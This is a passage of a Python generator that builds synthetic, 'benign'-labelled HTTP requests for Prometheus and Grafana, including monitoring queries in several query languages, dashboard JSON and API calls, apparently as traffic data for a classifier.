    'node_filesystem_avail_bytes{fstype!~"tmpfs|overlay"} / node_filesystem_size_bytes < 0.1',
    'up == 0',
    'up{job="kubernetes-pods", namespace="<<ns>>"} offset 1h',
    'max_over_time(rate(http_requests_total{job="<<job>>"}[5m])[1h:1m])',
    'sum without (instance, pod) (rate(container_cpu_usage_seconds_total{namespace="<<ns>>", container!=""}[5m]))',
    'kube_pod_container_status_restarts_total{namespace="<<ns>>"} > 3 and on (pod) kube_pod_status_phase{phase="Running"} == 1',
    'predict_linear(node_filesystem_free_bytes{mountpoint="/"}[6h], 4 * 3600) < 0',
    'absent(up{job="<<job>>"})',
    'topk(10, sum by (pod) (container_memory_working_set_bytes{namespace="<<ns>>", container!="POD"}))',
    'rate(http_requests_total[5m]) unless on (job) up == 0',
    'sum(rate(grpc_server_handled_total{grpc_code!="OK"}[5m])) by (grpc_service, grpc_method) or vector(0)',
    'label_replace(up{job="node"}, "host", "$1", "instance", "(.*):.*")',
    'count by (version) (count by (version, instance) (prometheus_build_info))',
    'increase(process_cpu_seconds_total{job="<<job>>"}[1d:5m])',
    'avg_over_time(probe_success{instance=~"https://.*"}[1d]) * 100',
    'sort_desc(sum by (path) (rate(nginx_ingress_controller_requests{status=~"4..|5.."}[10m])))',
    'clamp_min(1 - sum(rate(http_requests_total{code=~"5.."}[30d])) / sum(rate(http_requests_total[30d])), 0)',
    'quantile_over_time(0.95, http_latency_seconds{route="<<route>>"}[10m])',
    'deriv(go_memstats_heap_inuse_bytes{job="<<job>>"}[10m])',
    'sum(rate(prometheus_http_requests_total{handler=~"/api/v1/(query|query_range)"}[5m]))',
    'time() - timestamp(up{job="<<job>>"}) > 300',
    'changes(kube_deployment_status_observed_generation{namespace="<<ns>>"}[1h]) > 0',
    '{__name__=~"node_network_(receive|transmit)_bytes_total", device!~"lo|veth.*"}',
    'probe_http_status_code{instance="https://shop.example.com/healthz"} != 200',
    'sum by (namespace, pod) (rate(container_cpu_usage_seconds_total[5m])) * on (namespace, pod) group_left(node) kube_pod_info',
    'http_requests_total{job="<<job>>"} @ end()',
    'sum(rate(nginx_http_requests_total{host="shop.example.com"}[5m])) by (status) > bool 10',
    'sum by (le) (rate(http_server_duration_milliseconds_bucket{service_name="<<job>>", http_route="<<route>>"}[5m]))',
    'avg(rate(container_network_receive_bytes_total{namespace=~"prod|staging"}[2m])) without (interface)',
    'kafka_consumergroup_lag{consumergroup="<<job>>-consumer", topic="orders"} > 1000',
    'pg_stat_activity_count{datname="shop", state="active"}',
    'rate(pg_stat_database_xact_commit{datname="shop"}[5m]) + rate(pg_stat_database_xact_rollback{datname="shop"}[5m])',
    'redis_memory_used_bytes / redis_memory_max_bytes > 0.9',
    'sum(kube_pod_container_resource_requests{resource="cpu", namespace="<<ns>>"}) / sum(kube_node_status_allocatable{resource="cpu"})',
    '(1 - avg_over_time(up{job="<<job>>"}[7d])) * 7 * 24 * 60',
    'min by (instance) (probe_ssl_earliest_cert_expiry) - time() < 86400 * 14',
    'sum(increase(http_requests_total{job="<<job>>", method="POST", route="<<route>>"}[1h]))',
    'histogram_quantile(0.5, sum(rate(apiserver_request_duration_seconds_bucket{verb!~"WATCH|CONNECT"}[5m])) by (le, verb))',
    'rate(jvm_gc_pause_seconds_sum{application="<<job>>"}[5m]) / rate(jvm_gc_pause_seconds_count{application="<<job>>"}[5m])',
    'sum(rate(loki_distributor_lines_received_total[1m])) by (tenant)',
    'count(count by (__name__) ({job="<<job>>"}))',
    'last_over_time(kube_pod_status_reason{reason="Evicted", namespace="<<ns>>"}[1h])',
    'sum(rate(http_requests_total{job="<<job>>"}[5m] offset 1w)) / sum(rate(http_requests_total{job="<<job>>"}[5m]))',
    'WITH (f = {job="<<job>>", env="prod"}) sum(rate(http_requests_total{f}[5m])) by (code)',
    'rollup_rate(http_requests_total{job="<<job>>"}[1h])',
]

LOGQL = [
    '{app="<<app>>"} |= "error"',
    '{namespace="<<ns>>", app=~"api|web"} |= "error" != "healthz" | json | line_format "{{.msg}}"',
    '{job="nginx"} | pattern "<ip> - - <_> \\"<method> <uri> <_>\\" <status> <size> <_>" | status >= 500',
    'sum by (status) (rate({job="nginx"} | logfmt | __error__="" [5m]))',
    'topk(5, sum by (path) (count_over_time({app="web"} | json | status_code=~"5.." [1h])))',
    '{app="<<app>>"} | json | duration > 500ms',
    'quantile_over_time(0.99, {app="<<app>>"} | logfmt | unwrap latency_ms [5m]) by (route)',
    '{cluster="<<region>>"} |~ "(?i)timeout|deadline exceeded"',
    '{app="auth"} | json | line_format "{{.level}} {{.user_id}} {{.msg}}" | label_format lvl=level',
    'count_over_time({app="<<app>>"} |= "OutOfMemoryError" [1d])',
    '{container="postgres"} |= "duration:" | regexp "duration: (?P<dur>[0-9.]+) ms" | dur > 1000',
    '{app="<<app>>"} | json | line_format "{{ .method }} {{ .path }} {{ .status }}" | decolorize',
    'rate({app="ingest"} |= "dropped" [1m]) > 0',
    'sum(count_over_time({namespace="<<ns>>"} | json | level="error" [$__auto])) by (app)',
    '{app="<<app>>", level=~"error|fatal"} | json | __error__="" | line_format "{{.ts}} {{.caller}} {{.msg}}"',
    '{service_name="<<app>>"} | logfmt | trace_id="<<trace>>"',
    'sum by (level) (count_over_time({app="<<app>>"} | detected_level != "" [5m]))',
    '{app="<<app>>"} != "GET /metrics" | json | line_format `{{ printf "%-6s" .level }} {{ .msg }}`',
    'avg_over_time({app="<<app>>"} | json | unwrap bytes(response_size) [5m]) by (route)',
    '{filename="/var/log/syslog"} |= "kernel" |~ "segfault|oom-kill"',
]

TRACEQL = [
    '{ resource.service.name = "<<app>>" && status = error }',
    '{ span.http.status_code >= 500 } | count() > 2',
    '{ duration > 2s && span.db.system = "postgresql" }',
    '{ name = "GET <<route>>" } >> { span.db.system = "redis" }',
    '{ span.http.route =~ "/api/v1/.*" && kind = server } | avg(duration) > 300ms',
    '{ resource.k8s.namespace.name = "<<ns>>" } && { span.messaging.system = "kafka" }',
    '{ span.exception.type != nil }',
    '{ rootServiceName = "frontend" } | select(span.http.url, span.http.request.method)',
    '{ .http.request.method = "POST" && .http.route = "/checkout/confirm" && duration > 1s }',
    '{ resource.service.name = "<<app>>" } | quantile_over_time(duration, .99) by (span.http.route)',
    '{ status = error } | by(resource.service.name) | count() > 10',
    '{ span.db.statement =~ ".*orders.*" && duration > 500ms }',
]

KQL = [
    'status:>=500 AND NOT path:"/healthz"',
    'http.response.status_code >= 500 and not url.path : "/healthz"',
    'response:404 and not url.original : *favicon*',
    'host.name : "web-01" and (log.level : "error" or log.level : "fatal")',
    'message:"connection reset by peer" AND kubernetes.namespace:prod',
    'http.response.status_code >= 400 and http.request.method : (POST or PUT)',
    'user.email:*@example.com AND event.outcome:failure',
    'NOT event.dataset:nginx.error AND source.geo.country_iso_code:(DE OR FR)',
    'event.duration:[500000000 TO *] AND service.name:checkout',
    'error.message:/.*[Tt]imeout.*/',
    'kubernetes.pod.name : checkout-* and not kubernetes.container.name : istio-proxy',
    '@timestamp >= "2026-12-01" and @timestamp < "2026-12-05"',
    '_exists_:trace.id AND NOT _exists_:span.id',
    'url.path:\\/api\\/v1\\/orders*',
    'title:(quick OR brown) AND body:"fox jumps"~5',
    'process.args : "--config" and process.name : java',
    'labels.env : "prod" and transaction.duration.us > 1000000',
    'log.level:ERROR AND message:(NullPointerException OR "could not serialize access")',
    'service.name : "payments" and event.outcome : "failure" and not http.response.status_code : 402',
    'client.ip:10.0.0.0/8 AND NOT user_agent.name:"Go-http-client"',
    'tags:"deploy" OR tags:"rollback"',
    'cloud.region : "eu-west-1" and container.image.tag : 2.14.*',
]

APPS = ["checkout", "payments", "api", "web", "auth", "search", "worker", "ingest", "billing", "notifications"]


def fill(c, t):
    r = {
        "<<job>>": c.pick(JOBS), "<<ns>>": c.pick(NAMESPACES), "<<app>>": c.pick(APPS),
        "<<q>>": c.pick(["99", "95", "9", "5", "999"]), "<<inst>>": f"{c.ip()}:9100",
        "<<route>>": c.pick(ROUTES), "<<region>>": c.pick(REGIONS), "<<trace>>": c.hex(32),
    }
    for k, v in r.items():
        t = t.replace(k, v)
    return t


def prom_host_extra(c, host):
    if "mimir" in host:
        return [["X-Scope-OrgID", c.pick(["tenant-a", "team-payments", "prod"])]]
    return []


def b_promql(c, n):
    for i in range(n):
        host = c.pick(H_PROM)
        expr = fill(c, PROMQL[i % len(PROMQL)])
        end = BASE - c.rng.randint(0, 600)
        start = end - c.pick([900, 3600, 10800, 21600, 86400, 604800])
        step = c.pick(["15", "30", "60", "14", "28s", "1m", "5m"])
        kind = c.rng.randint(0, 9)
        ua = c.pick(UA_BROWSER + ["Grafana/11.3.1", "Grafana/10.4.12", "python-requests/2.32.3", "promtool/2.54.1", "Go-http-client/1.1", "curl/8.5.0"])
        extra = [["Accept", "application/json, text/plain, */*"]] + prom_host_extra(c, host)
        if kind <= 3:
            pairs = [("query", expr), ("start", start), ("end", end), ("step", step)]
            if "thanos" in host:
                pairs += [("dedup", "true"), ("partial_response", "false"), ("max_source_resolution", "auto"), ("engine", "prometheus")]
            c.emit("benign", "promql", "GET", "/api/v1/query_range?" + qs(pairs, c.pick([enc, encp])), hdrs(c, host, ua, extra=extra))
        elif kind <= 5:
            body = form([("query", expr), ("start", f"{start}.{c.rng.randint(0, 999):03d}"), ("end", end), ("step", step)])
            c.emit("benign", "promql", "POST", "/api/v1/query_range", hdrs(c, host, ua, "application/x-www-form-urlencoded", extra=extra), body)
        elif kind == 6:
            c.emit("benign", "promql", "GET", "/api/v1/query?" + qs([("query", expr), ("time", f"{end}.{c.rng.randint(0, 999)}")]), hdrs(c, host, ua, extra=extra))
        elif kind == 7:
            body = form([("query", expr), ("time", end)])
            c.emit("benign", "promql", "POST", "/api/v1/query", hdrs(c, host, ua, "application/x-www-form-urlencoded", extra=extra), body)
        elif kind == 8:
            uid = c.tok(14, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
            gh = c.pick(H_GRAFANA)
            p = [("query", expr), ("start", start), ("end", end), ("step", step)]
            c.emit("benign", "promql", "GET", f"/api/datasources/proxy/uid/{uid}/api/v1/query_range?" + qs(p), hdrs(c, gh, extra=g_extra(c)))
        else:
            p = [("g0.expr", expr), ("g0.tab", c.pick(["0", "1"])), ("g0.stacked", "0"), ("g0.show_exemplars", "0"), ("g0.range_input", c.pick(["1h", "6h", "1d"]))]
            c.emit("benign", "promql", "GET", "/graph?" + qs(p, encp), hdrs(c, host, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"))
    # metadata-ish endpoints
    misc = [
        "/api/v1/series?" + qs([("match[]", 'up{job=~"api|web"}'), ("match[]", "process_start_time_seconds"), ("start", BASE - 3600), ("end", BASE)]),
        "/api/v1/labels?" + qs([("match[]", '{namespace="prod"}'), ("start", BASE - 21600)]),
        "/api/v1/label/__name__/values?" + qs([("match[]", '{job="node"}')]),
        "/api/v1/label/route/values?" + qs([("match[]", 'http_requests_total{job="checkout"}'), ("limit", 500)]),
        "/federate?" + qs([("match[]", '{job="node"}'), ("match[]", '{__name__=~"job:.*"}')], encp),
        "/api/v1/metadata?metric=http_requests_total&limit=1",
        "/api/v1/targets?state=active&scrapePool=kubernetes-pods",
        "/api/v1/rules?type=alert&rule_group[]=checkout-slo",
        "/api/v1/query_exemplars?" + qs([("query", 'http_request_duration_seconds_bucket{job="checkout"}'), ("start", BASE - 3600), ("end", BASE)]),
        "/api/v1/status/tsdb?limit=20",
        "/api/v1/export?" + qs([("match[]", 'process_resident_memory_bytes{job="vmagent"}'), ("start", "-1h")]),
        "/api/v1/stores",
    ]
    for u in misc:
        host = c.pick(H_PROM)
        c.emit("benign", "promql", "GET", u, hdrs(c, host, c.pick(["Grafana/11.3.1", "curl/8.5.0"] + UA_BROWSER), extra=[["Accept", "application/json"]] + prom_host_extra(c, host)))


def ds_ref(c, typ):
    return {"type": typ, "uid": c.tok(c.pick([9, 14]), "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")}


def grafana_target(c, typ, ref="A"):
    d = ds_ref(c, typ)
    if typ == "prometheus":
        e = fill(c, c.pick(PROMQL)).replace("[5m]", "[$__rate_interval]").replace("[1m]", "[$__interval]")
        return {"refId": ref, "datasource": d, "expr": e, "interval": "", "legendFormat": c.pick(["{{route}}", "{{pod}}", "__auto", "{{instance}} {{mode}}", ""]),
                "range": True, "instant": False, "editorMode": "code", "exemplar": False, "requestId": f"{c.rng.randint(1, 60)}{ref}",
                "utcOffsetSec": c.pick([0, 3600, 19800, -18000]), "datasourceId": c.rng.randint(1, 9), "intervalMs": c.pick([15000, 30000, 60000]), "maxDataPoints": c.pick([1200, 1510, 844])}
    if typ == "loki":
        return {"refId": ref, "datasource": d, "expr": fill(c, c.pick(LOGQL)), "queryType": c.pick(["range", "instant"]), "editorMode": "code",
                "maxLines": 1000, "legendFormat": "", "datasourceId": c.rng.randint(1, 9), "intervalMs": 15000, "maxDataPoints": 1200}
    if typ == "elasticsearch":
        return {"refId": ref, "datasource": d, "query": c.pick(KQL), "alias": "", "metrics": [{"type": "count", "id": "1"}],
                "bucketAggs": [{"type": "date_histogram", "id": "2", "settings": {"interval": "auto"}, "field": "@timestamp"}],
                "timeField": "@timestamp", "datasourceId": c.rng.randint(1, 9), "intervalMs": 30000, "maxDataPoints": 1200}
    if typ == "tempo":
        return {"refId": ref, "datasource": d, "queryType": "traceql", "query": fill(c, c.pick(TRACEQL)), "limit": 20, "tableType": "traces", "filters": []}
    if typ == "influxdb":
        return {"refId": ref, "datasource": d, "query": flux_query(c), "datasourceId": c.rng.randint(1, 9), "intervalMs": 60000, "maxDataPoints": 900}
    if typ == "__expr__":
        return {"refId": ref, "datasource": {"type": "__expr__", "uid": "__expr__", "name": "Expression"}, "type": "math", "expression": c.pick(["$A / $B * 100", "$A - $B", "abs($A) > 0.5"]), "hide": False}
    if typ == "cloudwatch":
        return {"refId": ref, "datasource": d, "queryMode": "Metrics", "namespace": "AWS/ApplicationELB", "metricName": "HTTPCode_Target_5XX_Count",
                "dimensions": {"LoadBalancer": [f"app/prod-alb/{c.hex(16)}"]}, "statistic": "Sum", "period": "", "region": c.pick(REGIONS), "matchExact": True}
    raise ValueError(typ)


FLUX = [
    'from(bucket: "<<bucket>>")\n  |> range(start: v.timeRangeStart, stop: v.timeRangeStop)\n  |> filter(fn: (r) => r._measurement == "cpu" and r._field == "usage_user" and r.cpu == "cpu-total")\n  |> aggregateWindow(every: v.windowPeriod, fn: mean, createEmpty: false)\n  |> yield(name: "mean")',
    'from(bucket: "<<bucket>>")\n  |> range(start: -1h)\n  |> filter(fn: (r) => r._measurement == "mem" and r._field == "used_percent")\n  |> group(columns: ["host"])\n  |> last()',
    'import "strings"\n\nfrom(bucket: "<<bucket>>")\n  |> range(start: -24h)\n  |> filter(fn: (r) => r._measurement == "http_requests" and strings.hasPrefix(v: r.path, prefix: "/api/"))\n  |> map(fn: (r) => ({r with _value: float(v: r._value) / 60.0}))\n  |> sum()',
    'from(bucket: "<<bucket>>")\n  |> range(start: -7d)\n  |> filter(fn: (r) => r._measurement == "disk" and r.path == "/")\n  |> aggregateWindow(every: 1h, fn: max)\n  |> derivative(unit: 1h, nonNegative: true)',
    'data = from(bucket: "<<bucket>>")\n  |> range(start: -15m)\n  |> filter(fn: (r) => r._measurement == "temperature")\n\ndata\n  |> pivot(rowKey: ["_time"], columnKey: ["_field"], valueColumn: "_value")\n  |> filter(fn: (r) => r.celsius > 28.5)',
    'from(bucket: "<<bucket>>")\n  |> range(start: 2026-12-04T00:00:00Z, stop: 2026-12-05T00:00:00Z)\n  |> filter(fn: (r) => r["_measurement"] == "orders" and r["region"] =~ /^eu-/)\n  |> count()',
]


def flux_query(c):
    return c.pick(FLUX).replace("<<bucket>>", c.pick(["telegraf", "iot/autogen", "app-metrics", "shop"]))


def grafana_panel(c, pid, x, y):
    typ = c.pick(["timeseries", "timeseries", "stat", "table", "bargauge", "text", "logs", "heatmap"])
    p = {"id": pid, "type": typ, "gridPos": {"h": c.pick([6, 8, 9]), "w": c.pick([6, 8, 12, 24]), "x": x, "y": y}}
    if typ == "text":
        mode = c.pick(["markdown", "markdown", "html"])
        if mode == "markdown":
            content = c.pick([
                "## On-call notes\n\nSee the [runbook](https://wiki.example.com/runbooks/checkout-errors) before paging. Escalate to **#payments-oncall**.\n\n* p99 > 800ms for 10m → page\n* error rate > 2% → page",
                "### What is this?\n\nLatency of `POST /checkout/confirm` split by region. Data comes from `http_server_duration_milliseconds` (OTel SDK 1.43).",
                "> Dashboard owned by team **Data Platform** — questions in #data-platform.\n\n| SLO | Target |\n|---|---|\n| Availability | 99.9 % |\n| p95 latency | < 300 ms |",
            ])
        else:
            content = c.pick([
                '<div style="text-align:center;padding:8px"><h2>Checkout</h2><p>Owner: <a href="https://teams.example.com/payments" target="_blank">Payments team</a></p></div>',
                '<p>Status page: <a href="https://status.example.com">status.example.com</a> &middot; <b>Deploy freeze</b> until 2026-12-08</p>',
                '<img src="https://cdn.example.com/logos/acme.svg" width="120" alt="ACME"><br><small>Build ${__dashboard.uid}</small>',
            ])
        p.update({"title": c.pick(["Notes", "", "Read me"]), "options": {"mode": mode, "content": content, "code": {"language": "plaintext", "showLineNumbers": False}}})
        return p
    ds = "loki" if typ == "logs" else c.pick(["prometheus", "prometheus", "prometheus", "elasticsearch", "influxdb"])
    t = grafana_target(c, ds)
    t.pop("requestId", None)
    t.pop("datasourceId", None)
    if ds == "prometheus":
        t["expr"] = t["expr"].replace('namespace="prod"', 'namespace=~"$namespace"').replace('job="api"', 'job="$job"')
    p.update({
        "title": c.pick(["Error rate ${namespace}", "p99 latency by route", "Requests / s", "Pod restarts", "Disk free", "Kafka lag — ${consumer_group}",
                         "CPU (${__interval})", "Top 10 slow endpoints", "Fehlerquote (5xx)", "エラー率", "Orders per minute", "Heap in use"]),
        "datasource": t["datasource"], "targets": [t],
        "fieldConfig": {"defaults": {"unit": c.pick(["percentunit", "s", "reqps", "bytes", "short", "ms"]), "decimals": c.pick([None, 1, 2]),
                                     "thresholds": {"mode": "absolute", "steps": [{"color": "green", "value": None}, {"color": "red", "value": c.pick([0.05, 80, 500, 1])}]},
                                     "links": [] if c.rng.random() < 0.5 else [{"title": "Show traces", "url": "/explore?left=" + enc(jdump({"datasource": "tempo", "queries": [{"query": "${__data.fields.traceId}", "queryType": "traceql"}]})) + "&${__url_time_range}"}]},
                        "overrides": []},
        "options": {"legend": {"displayMode": "table", "placement": "bottom", "calcs": ["mean", "max"]}, "tooltip": {"mode": "multi", "sort": "desc"}},
    })
    if c.rng.random() < 0.4:
        p["links"] = [{"title": "Runbook", "url": "https://wiki.example.com/runbooks/" + c.pick(APPS) + "?ns=${namespace}&from=${__from}&to=${__to}", "targetBlank": True}]
    if typ == "table" and c.rng.random() < 0.7:
        p["transformations"] = [{"id": "organize", "options": {"excludeByName": {"Time": True}, "renameByName": {"Value #A": "req/s", "route": "Route"}}},
                                {"id": "sortBy", "options": {"sort": [{"field": "req/s", "desc": True}]}}]
        p["fieldConfig"]["defaults"]["links"] = [{"title": "Drill down", "url": "/d/${__dashboard.uid}/detail?var-route=${__data.fields.Route}&${__url_time_range}&var-namespace=${namespace:queryparam}"}]
    return p


def grafana_dashboard(c):
    title = c.pick(["Checkout — SLOs", "Kubernetes / Pods", "Node Exporter Full", "Payments API", "Kafka consumers", "Postgres overview",
                    "Übersicht Produktion", "本番環境の概要", "Ingest pipeline", "Search latency", "Edge / CDN", "Batch jobs (Airflow)"])
    panels, y = [], 0
    for i in range(c.rng.randint(2, 5)):
        p = grafana_panel(c, i + 1, (i % 2) * 12, y)
        y += p["gridPos"]["h"] if i % 2 else 0
        panels.append(p)
    prom = ds_ref(c, "prometheus")
    templ = [
        {"name": "namespace", "label": "Namespace", "type": "query", "datasource": prom, "query": {"query": "label_values(kube_pod_info, namespace)", "refId": "PrometheusVariableQueryEditor-VariableQuery"},
         "regex": c.pick(["/^(prod|staging)$/", "/^(?!kube-).*/", ""]), "refresh": 2, "includeAll": True, "multi": True, "current": {"text": ["prod"], "value": ["prod"]}, "sort": 1},
        {"name": "job", "type": "query", "datasource": prom, "query": 'label_values(up{namespace=~"$namespace"}, job)', "refresh": 1, "includeAll": False, "multi": False},
        {"name": "interval", "type": "interval", "query": "1m,5m,10m,30m,1h", "auto": True, "auto_count": 30, "auto_min": "10s"},
    ]
    if c.rng.random() < 0.5:
        templ.append({"name": "consumer_group", "type": "custom", "query": "orders-consumer,payments-consumer,audit : audit-consumer", "multi": True, "includeAll": True, "allValue": ".*"})
    if c.rng.random() < 0.4:
        templ.append({"name": "host_re", "type": "textbox", "query": "web-0[1-4]", "label": "Host regex"})
    if c.rng.random() < 0.4:
        templ.append({"name": "adhoc", "type": "adhoc", "datasource": prom, "filters": [{"key": "route", "operator": "=~", "value": "/api/.*"}]})
    return {
        "annotations": {"list": [{"builtIn": 1, "datasource": {"type": "grafana", "uid": "-- Grafana --"}, "enable": True, "hide": True, "iconColor": "rgba(0, 211, 255, 1)", "name": "Annotations & Alerts", "type": "dashboard"},
                                 {"datasource": prom, "enable": True, "expr": 'changes(kube_deployment_status_observed_generation{namespace=~"$namespace"}[2m]) > 0', "iconColor": "orange", "name": "Deploys", "titleFormat": "Deploy {{deployment}}", "step": "60s"}]},
        "editable": True, "fiscalYearStartMonth": 0, "graphTooltip": 1, "id": c.pick([None, c.rng.randint(10, 400)]), "links": [{"asDropdown": True, "icon": "external link", "tags": ["slo"], "title": "SLO dashboards", "type": "dashboards"}],
        "panels": panels, "refresh": c.pick(["30s", "1m", "", "5m"]), "schemaVersion": 39, "tags": c.rng.sample(["slo", "k8s", "payments", "team-data", "generated", "prod"], 2),
        "templating": {"list": templ}, "time": {"from": c.pick(["now-6h", "now-24h", "now-1h"]), "to": "now"}, "timepicker": {}, "timezone": c.pick(["browser", "utc", "Europe/Berlin"]),
        "title": title, "uid": c.tok(14, "abcdefghijklmnopqrstuvwxyz0123456789"), "version": c.rng.randint(1, 90), "weekStart": "",
    }


def b_grafana(c, n):
    kinds = ["dsq"] * 9 + ["dash"] * 5 + ["misc"] * 6
    misc_i = 0
    for i in range(n):
        k = kinds[i % len(kinds)]
        host = c.pick(H_GRAFANA)
        if k == "dsq":
            typ = c.pick(["prometheus", "prometheus", "loki", "elasticsearch", "tempo", "influxdb", "cloudwatch"])
            qlist = [grafana_target(c, typ, "A")]
            if typ == "prometheus" and c.rng.random() < 0.35:
                qlist.append(grafana_target(c, "prometheus", "B"))
                qlist.append(grafana_target(c, "__expr__", "C"))
            body = {"queries": qlist, "from": str((BASE - 21600) * 1000), "to": str(BASE * 1000)}
            ex = g_extra(c) + [["X-Datasource-Uid", qlist[0]["datasource"]["uid"]], ["X-Plugin-Id", typ], ["X-Query-Group-Id", c.uuid()]]
            c.emit("benign", "grafana", "POST", f"/api/ds/query?ds_type={typ}&requestId=SQR{c.rng.randint(100, 999)}", hdrs(c, host, ctype="application/json", extra=ex), jdump(body, ascii_only=False))
        elif k == "dash":
            body = {"dashboard": grafana_dashboard(c), "folderUid": c.tok(14, "abcdefghijklmnopqrstuvwxyz0123456789"),
                    "message": c.pick(["", "tweak thresholds", "add Kafka lag panel", "Schwellwerte angepasst", "fix legend: {{route}}"]), "overwrite": c.pick([False, True])}
            c.emit("benign", "grafana", "POST", "/api/dashboards/db", hdrs(c, host, ctype="application/json", extra=g_extra(c, dash=False)), jdump(body, ascii_only=False))
        else:
            misc_i += 1
            m = misc_i % 20
            ex = g_extra(c, dash=False)
            if m == 0:
                c.emit("benign", "grafana", "GET", "/api/search?" + qs([("query", c.pick(["checkout", "k8s pods", "Übersicht", "slo"])), ("type", "dash-db"), ("limit", 50), ("sort", "alpha-asc")]), hdrs(c, host, extra=ex))
            elif m == 1:
                body = {"dashboardUID": c.tok(14), "panelId": c.rng.randint(1, 20), "time": (BASE - 1800) * 1000, "timeEnd": (BASE - 1700) * 1000, "tags": ["deploy", "v2.14.0"],
                        "text": c.pick(["Deployed checkout v2.14.0 (commit 3f9a1c2) — rollout 100%", "Rolled back payments to 1.8.3 after p99 > 2s", "DB failover: primary moved to db-02 (planned)", "Incident INC-4821 start: 5xx on /api/cart"])}
                c.emit("benign", "grafana", "POST", "/api/annotations", hdrs(c, host, ctype="application/json", extra=ex), jdump(body, ascii_only=False))
            elif m == 2:
                c.emit("benign", "grafana", "GET", f"/api/annotations?from={(BASE - 21600) * 1000}&to={BASE * 1000}&limit=100&matchAny=false&dashboardUID={c.tok(14)}", hdrs(c, host, extra=ex))
            elif m == 3:
                body = {"name": f"Prometheus ({c.pick(REGIONS)})", "type": "prometheus", "access": "proxy", "url": c.pick(["http://prometheus.monitoring.svc:9090", "http://thanos-query.monitoring.svc:9090", "https://mimir.internal.example.net/prometheus"]),
                        "basicAuth": False, "jsonData": {"httpMethod": "POST", "timeInterval": "30s", "prometheusType": "Prometheus", "prometheusVersion": "2.54.1", "exemplarTraceIdDestinations": [{"datasourceUid": "tempo", "name": "trace_id"}]}}
                c.emit("benign", "grafana", "POST", "/api/datasources", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
            elif m == 4:
                c.emit("benign", "grafana", "GET", f"/render/d-solo/{c.tok(14)}/checkout-slos?orgId=1&panelId={c.rng.randint(1, 20)}&from={(BASE - 21600) * 1000}&to={BASE * 1000}&var-namespace=prod&width=1000&height=500&tz=Europe%2FBerlin", hdrs(c, host, accept="image/png,image/*", extra=ex[1:]))
            elif m == 5:
                c.emit("benign", "grafana", "GET", f"/avatar/{c.hex(32)}", hdrs(c, host, accept="image/avif,image/webp,image/apng,image/*,*/*;q=0.8"))
            elif m == 6:
                c.emit("benign", "grafana", "GET", c.pick(["/public/plugins/grafana-piechart-panel/img/piechart_logo_large.png", "/public/plugins/grafana-clock-panel/module.js", "/public/plugins/alexanderzobnin-zabbix-app/img/icn-zabbix-app.svg", "/public/build/runtime.4d3f1a9e2b.js"]), hdrs(c, host, accept="*/*"))
            elif m == 7:
                body = {"name": c.pick(["Payments", "Data Platform", "Équipe SRE"]), "parentUid": None}
                c.emit("benign", "grafana", "POST", "/api/folders", hdrs(c, host, ctype="application/json", extra=ex), jdump(body, ascii_only=False))
            elif m == 8:
                c.emit("benign", "grafana", "GET", "/api/dashboards/uid/" + c.tok(14, "abcdefghijklmnopqrstuvwxyz0123456789"), hdrs(c, host, extra=ex))
            elif m == 9:
                body = {"theme": c.pick(["dark", "light", "system"]), "homeDashboardUID": c.tok(14), "timezone": "Europe/Berlin", "weekStart": "monday", "language": c.pick(["en-US", "de-DE", "ja-JP"])}
                c.emit("benign", "grafana", "PUT", "/api/user/preferences", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
            elif m == 10:
                c.emit("benign", "grafana", "GET", "/api/serviceaccounts/search?perpage=10&page=1&query=" + enc(c.pick(["ci", "terraform", "alloy"])), hdrs(c, host, extra=ex))
            elif m == 11:
                body = {"name": "NOC rotation", "interval": "5m", "items": [{"type": "dashboard_by_tag", "value": "noc"}, {"type": "dashboard_by_uid", "value": c.tok(14)}]}
                c.emit("benign", "grafana", "POST", "/api/playlists", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
            elif m == 12:
                body = {"events": [{"name": "dashboard_view", "time": BASE * 1000, "dashboard_uid": c.tok(14)}], "measurements": [{"name": "frontend_boot_load_time_seconds", "value": 1.83}]}
                c.emit("benign", "grafana", "POST", "/api/frontend-metrics", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
            elif m == 13:
                c.emit("benign", "grafana", "GET", "/api/health", hdrs(c, host, "kube-probe/1.30"))
            elif m == 14:
                body = {"dashboard": {"id": 1860}, "pluginId": "", "overwrite": True, "inputs": [{"name": "DS_PROMETHEUS", "type": "datasource", "pluginId": "prometheus", "value": c.tok(14)}], "folderUid": ""}
                c.emit("benign", "grafana", "POST", "/api/dashboards/import", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
            elif m == 15:
                c.emit("benign", "grafana", "GET", "/api/gnet/dashboards/1860", hdrs(c, host, extra=ex))
            elif m == 16:
                body = {"dashboard": grafana_dashboard(c), "name": "checkout incident 2026-12-04", "expires": 3600, "external": False}
                c.emit("benign", "grafana", "POST", "/api/snapshots", hdrs(c, host, ctype="application/json", extra=ex), jdump(body, ascii_only=False))
            elif m == 17:
                c.emit("benign", "grafana", "GET", f"/d/{c.tok(14)}/checkout-slos?orgId=1&from=now-6h&to=now&timezone=browser&var-namespace=prod&var-namespace=staging&var-job=$__all&refresh=30s", hdrs(c, host, accept="text/html,application/xhtml+xml,*/*"))
            elif m == 18:
                c.emit("benign", "grafana", "GET", "/explore?schemaVersion=1&panes=" + enc(jdump({"x7f": {"datasource": "loki", "queries": [{"refId": "A", "expr": fill(c, c.pick(LOGQL)), "queryType": "range"}], "range": {"from": "now-1h", "to": "now"}}})) + "&orgId=1", hdrs(c, host, accept="text/html,application/xhtml+xml,*/*"))
            else:
                body = {"name": "Loki", "type": "loki", "access": "proxy", "url": "http://loki-gateway.monitoring.svc", "jsonData": {"maxLines": 1000, "derivedFields": [{"datasourceUid": "tempo", "matcherRegex": "trace_?[Ii][Dd]=(\\w+)", "name": "TraceID", "url": "${__value.raw}"}]}}
                c.emit("benign", "grafana", "POST", "/api/datasources", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))


def b_alerting(c, n):
    for i in range(n):
        m = i % 8
        if m in (0, 1):
            host = c.pick(H_GRAFANA)
            job = c.pick(JOBS)
            body = {"uid": "", "title": c.pick([f"{job} error rate high", f"{job} p99 latency", "Disk will fill in 4h", "Kafka lag growing", "Zertifikat läuft ab"]),
